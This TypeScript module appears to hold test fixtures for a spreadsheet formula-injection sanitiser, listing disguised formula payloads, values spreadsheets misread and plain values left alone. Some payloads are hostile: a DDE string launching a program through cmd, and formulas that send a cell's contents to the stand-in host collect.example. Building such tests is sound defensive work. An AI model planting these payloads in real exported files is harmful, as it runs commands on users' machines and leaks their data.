/** Texts that a spreadsheet might run, in the ways in which they are hidden from a simple look. */
const DDE = "cmd|'/C calc'!A0";

export const FORMULA_PAYLOADS: readonly string[] = [
  ...['=', '+', '-', '@'].flatMap((sign) => [
    `${sign}1+1`,
    `${sign}${DDE}`,
    `${sign}SUM(1;1)`,
    `\t${sign}1+1`,
    `\r${sign}1+1`,
    `\n${sign}1+1`,
    `\r\n${sign}1+1`,
    ` ${sign}1+1`,
    `"${sign}1+1`,
    `'${sign}1+1`,
  ]),
  ...['＝', '＋', '－', '＠'].map((sign) => `${sign}1+1`),
  '=HYPERLINK("http://collect.example/?"&A2,"Open")',
  '=WEBSERVICE("http://collect.example/"&A2)',
  '=IMPORTXML("http://collect.example/","//a")',
  `=1+1";=${DDE}`,
  '"=1+1"',
  '""=1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\u000b=1+1',
  'Suite 4;=1+1',
  'Suite 4,=1+1',
  'Suite 4\t=1+1',
  'Suite 4\n=1+1',
  'Suite 4";"=1+1',
  'Suite 4","=1+1',
];

/** What a spreadsheet would make something else of. */
export const DAMAGED_VALUES: readonly string[] = [
  ...['+44 20 7946 0142', '+442079460142', '00501', '12345678901234567890', '4242348048554929329'],
  ...['-4242348048554929329', '1E5', '4.25556E+09', '3/4', '2024-05-01', 'May 5', '10:30', '007-1'],
  ...['TRUE', 'false', 'WAHR', '50%', '€5', '(5)', '1,000', '1.000', '=', '-', '’tis', "'t Hooft"],
];

/** What one must not touch. */
export const PLAIN_VALUES: readonly string[] = [
  ...['Zoë Müller', 'Ærø Łódź Œuvre', '東京都', 'Москва', 'naïve café', 'SW1A 1AA', 'Suite 4'],
  ...['98052', '0', 'ap@x.example', 'a;b', 'a,b', 'say "hi"', 'two\nlines', '😀', 'May', ''],
  ...['db481951-8eb0-4a44-84a0-8df6776f9c6b', '00000000-0000-4000-8000-000000000001'],
];
